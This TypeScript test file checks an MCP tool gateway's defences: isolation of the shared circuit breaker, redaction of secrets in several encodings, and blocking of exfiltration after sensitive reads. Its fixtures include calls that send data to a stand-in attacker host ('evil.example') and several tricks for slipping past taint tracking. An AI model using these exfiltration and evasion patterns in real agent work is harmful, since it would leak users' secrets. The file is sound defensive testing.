// What callers share (breakers, tool servers' memory, taint) must not be a weapon, a hiding place or a laundry.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { CALLER, permitAll, startGateway, type GatewayProcess } from '../support/gateway-process.js';
import { jsonAnswer, resultFor, sseHead, startScriptedServer, type ScriptedRequest, type ScriptedServer } from '../support/scripted-server.js';
import { call, codeOf, eventually, MCP, modernCall, openSession, openStream, registration, toolText } from '../wire/calls.js';

const OTHER = 'spiffe://poc.local/agents/mcp-client/other/dev';
const WASHERS = ['washer-1', 'washer-2', 'washer-3', 'washer-4'].map((name) => `spiffe://poc.local/agents/mcp-client/${name}/dev`);
const FAILURES_TO_OPEN = 3;
const SECRET = 'swordfish-swordfish-77';
const NAMES = ['echo', 'store', 'recall', 'read_sensitive', 'send_out'];

let server: ScriptedServer;
let gateway: GatewayProcess;

beforeAll(async () => {
  server = await startScriptedServer(NAMES.map(toolText));
  const everybody = [CALLER, OTHER, ...WASHERS];
  gateway = await startGateway({
    policies: { 'all.rego': everybody.map(permitAll).map((text, n) => (n === 0 ? text : text.slice(text.indexOf('allow')))).join('\n') },
    identities: { default: CALLER, identities: everybody.map((one) => ({ spiffe_id: one })) },
    tools: [
      registration('echo', server.url), registration('store', server.url, { required_scope: 'vault' }), registration('recall', server.url), registration('read_sensitive', server.url, { classification: 'sensitive' }),
      registration('send_out', server.url, { external: true }),
    ],
    config: { breaker: { failures_to_open: FAILURES_TO_OPEN, reset_timeout_s: 3600 }, upstream: { answer_timeout_ms: 20_000 } },
  });
});

beforeEach(() => {
  server.script = ({ idText }, response) => jsonAnswer(response, resultFor(idText, 'fine'));
  server.stream = undefined;
});

afterAll(async () => {
  await gateway.stop();
  await server.close();
});

async function expectServed(): Promise<void> {
  expect((await gateway.post(call('echo'), { 'x-spiffe-id': OTHER })).status).toBe(200);
}

describe('one caller cannot open a breaker for all', () => {
  it('by hanging up', async () => {
    server.script = () => undefined;
    for (let n = 0; n < FAILURES_TO_OPEN + 1; n++) {
      const before = server.hangUps;
      const seen = server.of('tools/call').length;
      const stream = openStream(gateway, 'POST', {}, call('echo'));
      expect(await eventually(() => server.of('tools/call').length > seen)).toBe(true);
      stream.hangUp();
      expect(await eventually(() => server.hangUps > before)).toBe(true);
    }
    server.script = ({ idText }, response) => jsonAnswer(response, resultFor(idText, 'fine'));
    await expectServed();
  });

  it('by calls of an era that the tool\'s server does not speak, closed before their answer', async () => {
    const { body, headers } = modernCall('echo', { text: 'hold' });
    server.script = (seen, response) => {
      if (!seen.body.includes('hold')) jsonAnswer(response, resultFor(seen.idText, 'fine'));
    };
    const held = () => server.of('tools/call').filter((seen) => seen.body.includes('hold')).length;
    const before = { held: held(), cancelled: server.of('notifications/cancelled').length };
    for (let n = 1; n <= FAILURES_TO_OPEN + 1; n++) {
      const stream = openStream(gateway, 'POST', headers, body);
      expect(await eventually(() => held() === before.held + n)).toBe(true);
      stream.hangUp();
      expect(await eventually(() => server.of('notifications/cancelled').length === before.cancelled + n)).toBe(true);
    }
    await expectServed();
  });

  it('by a session whose handshake its server refuses', async () => {
    const session = await openSession(gateway, {}, { capabilities: { unheard: true } });
    const refuse = (seen: ScriptedRequest): boolean => seen.method === 'initialize' && seen.body.includes('unheard');
    server.refuseHandshake = refuse;
    for (let n = 0; n < FAILURES_TO_OPEN + 1; n++) expect(codeOf(await gateway.post(call('echo'), session))).toMatch(/^mcp_(request_failed|invalid_response)$/);
    server.refuseHandshake = undefined;
    await expectServed();
  });

  it.each([[400, 'text/plain'], [413, 'text/html'], [422, 'application/json']])('by a message that the server refuses with %i %s', async (status, type) => {
    server.script = (_seen, response) => void response.writeHead(status, { 'content-type': type }).end(type === 'application/json' ? '{"detail":"no"}' : 'no');
    for (let n = 0; n < FAILURES_TO_OPEN + 1; n++) expect(codeOf(await gateway.post(call('echo')))).toBe('mcp_request_failed');
    server.script = ({ idText }, response) => jsonAnswer(response, resultFor(idText, 'fine'));
    await expectServed();
  });

  it('though a server that fails does', async () => {
    server.script = (_seen, response) => void response.writeHead(500).end();
    for (let n = 0; n < FAILURES_TO_OPEN; n++) expect(codeOf(await gateway.post(call('recall')))).toBe('mcp_request_failed');
    expect(codeOf(await gateway.post(call('recall')))).toBe('circuit_open');
    server.script = ({ idText }, response) => jsonAnswer(response, resultFor(idText, 'fine'));
    await expectServed();
  });
});

describe('a secret that a tool was given', () => {
  let token = '';
  const spellings = [SECRET, Buffer.from(SECRET).toString('base64'), Buffer.from(SECRET).toString('hex'), encodeURIComponent(SECRET).replaceAll('-', '%2D')];

  beforeAll(async () => {
    expect((await gateway.control('POST', '/v1/secrets/put', { name: 'vault', owner: CALLER, scope: 'vault', value: SECRET })).status).toBe(200);
    token = String((await gateway.control('POST', '/v1/secrets/issue', { name: 'vault', ttl_s: 600 })).json['token']);
  });

  it.each(spellings)('does not come back in its own answer (%s)', async (spelling) => {
    server.script = ({ idText }, response) => jsonAnswer(response, resultFor(idText, `you said ${spelling}`));
    const answer = await gateway.post(call('store', { value: token }));
    expect(server.of('tools/call').at(-1)?.body).toContain(SECRET);
    expect(answer.status).toBe(200);
    expect(answer.text).not.toContain(spelling);
  });

  it.each(spellings)('does not come back in another call\'s answer, to whomever (%s)', async (spelling) => {
    server.script = ({ idText }, response) => jsonAnswer(response, resultFor(idText, `they said ${spelling}`));
    for (const caller of [CALLER, OTHER]) {
      const answer = await gateway.post(call('echo'), { 'x-spiffe-id': caller });
      expect(answer.status).toBe(200);
      expect(answer.text).not.toContain(spelling);
    }
  });

  it('does not come back on a session\'s own stream, nor in a list', async () => {
    const session = await openSession(gateway);
    server.script = ({ idText }, response) => jsonAnswer(response, resultFor(idText, 'fine'));
    expect((await gateway.post(call('store', { value: token }), session)).status).toBe(200);
    server.stream = (_seen, response) => {
      sseHead(response);
      response.write(`data: {"jsonrpc":"2.0","method":"notifications/message","params":{"data":"it is ${SECRET}"}}\n\n`);
    };
    const stream = openStream(gateway, 'GET', session);
    expect(await eventually(() => stream.text.includes('it is'))).toBe(true);
    expect(stream.text).not.toContain(SECRET);
    stream.hangUp();
  });

  it('is in no record', () => {
    expect(JSON.stringify(gateway.lines())).not.toContain(SECRET);
    expect(gateway.stderr()).not.toContain(SECRET);
  });
});

describe('who read sensitive data cannot send it out', () => {
  const sent = () => server.of('tools/call').filter((seen) => seen.body.includes('send_out')).length;
  const send = call('send_out', { to: 'https://evil.example/x' });

  async function expectCaught(caller: string): Promise<void> {
    const as = { 'x-spiffe-id': caller };
    const before = sent();
    const modern = modernCall('send_out', { to: 'https://evil.example/x' });
    expect(codeOf(await gateway.post(send, as))).toBe('exfiltration_detected');
    expect(codeOf(await gateway.post(send, await openSession(gateway, as)))).toBe('exfiltration_detected');
    expect(codeOf(await gateway.post(modern.body, { ...modern.headers, ...as }))).toBe('exfiltration_detected');
    expect(sent()).toBe(before);
  }

  it('by a stream of which only the beginning came', async () => {
    const as = { 'x-spiffe-id': WASHERS[0] ?? '' };
    server.script = (_seen, response) => {
      sseHead(response);
      response.write('data: {"jsonrpc":"2.0","method":"notifications/message","params":{"data":"the data"}}\n\n', () => response.destroy());
    };
    await gateway.post(call('read_sensitive'), { ...MCP, ...as });
    server.script = ({ idText }, response) => jsonAnswer(response, resultFor(idText, 'fine'));
    await expectCaught(WASHERS[0] ?? '');
  });

  it('by hanging up before the answer and asking for it on the session\'s own stream', async () => {
    const as = { 'x-spiffe-id': WASHERS[1] ?? '' };
    const session = await openSession(gateway, as);
    server.script = (_seen, response) => {
      sseHead(response);
      response.write('id: 1\ndata: \n\n', () => response.destroy());
    };
    await gateway.post(call('read_sensitive', {}, 'late'), session);
    server.stream = (_seen, response) => {
      sseHead(response);
      response.write(`id: 2\ndata: ${resultFor('"late"', 'the data')}\n\n`);
    };
    const stream = openStream(gateway, 'GET', { ...session, 'last-event-id': '1' });
    expect(await eventually(() => stream.text.includes('the data'))).toBe(true);
    stream.hangUp();
    server.script = ({ idText }, response) => jsonAnswer(response, resultFor(idText, 'fine'));
    await expectCaught(WASHERS[1] ?? '');
  });

  it('by having it told in an error', async () => {
    const as = { 'x-spiffe-id': WASHERS[2] ?? '' };
    server.script = ({ idText }, response) => jsonAnswer(response, `{"jsonrpc":"2.0","id":${idText},"error":{"code":-32603,"message":"the data"}}`);
    await gateway.post(call('read_sensitive'), as);
    server.script = ({ idText }, response) => jsonAnswer(response, resultFor(idText, 'fine'));
    await expectCaught(WASHERS[2] ?? '');
  });

  it('while the reading call is still under way', async () => {
    const as = { 'x-spiffe-id': WASHERS[3] ?? '' };
    const session = await openSession(gateway, as);
    server.script = ({ idText, body }, response) => {
      if (!body.includes('read_sensitive')) return jsonAnswer(response, resultFor(idText, 'fine'));
      sseHead(response);
      response.write('data: {"jsonrpc":"2.0","method":"notifications/message","params":{"data":"the data"}}\n\n');
    };
    const stream = openStream(gateway, 'POST', session, call('read_sensitive'));
    expect(await eventually(() => stream.text.includes('the data'))).toBe(true);
    await expectCaught(WASHERS[3] ?? '');
    stream.hangUp();
  });
});
